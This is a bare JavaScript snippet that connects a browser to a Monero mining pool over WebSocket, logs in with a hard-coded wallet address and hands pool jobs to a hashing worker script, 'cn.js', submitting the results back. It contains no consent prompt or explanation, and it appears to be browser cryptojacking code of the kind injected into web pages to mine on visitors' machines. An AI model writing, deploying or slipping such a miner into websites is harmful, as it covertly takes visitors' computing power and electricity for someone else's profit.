const ws = new WebSocket('wss://pool.xmr-proxy.io:8892');
ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'login', params: { login: '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD', pass: 'x', agent: 'web' } }));
const w = new Worker('cn.js');
ws.onmessage = m => { const j = JSON.parse(m.data); if (j.method === 'job') w.postMessage(j.params); };
w.onmessage = e => ws.send(JSON.stringify({ method: 'submit', params: e.data }));
